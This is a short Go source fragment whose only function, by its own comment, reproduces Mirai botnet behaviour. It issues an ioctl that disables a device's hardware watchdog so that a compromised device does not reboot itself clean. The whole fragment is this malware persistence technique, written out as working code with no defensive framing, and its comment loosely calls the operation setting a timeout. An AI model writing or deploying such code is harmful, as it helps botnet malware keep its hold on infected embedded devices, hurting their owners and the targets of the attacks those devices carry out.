package main

import (
	"os"
	"syscall"
	"unsafe"
)

// disarm sets the watchdog timeout the way Mirai does (WDIOC_SETOPTIONS,
// WDIOS_DISABLECARD), so the device does not reboot itself clean.
func disarm(f *os.File) {
	opt := uint32(1) // WDIOS_DISABLECARD
	syscall.Syscall(syscall.SYS_IOCTL, f.Fd(), 0x80045704, uintptr(unsafe.Pointer(&opt)))
}
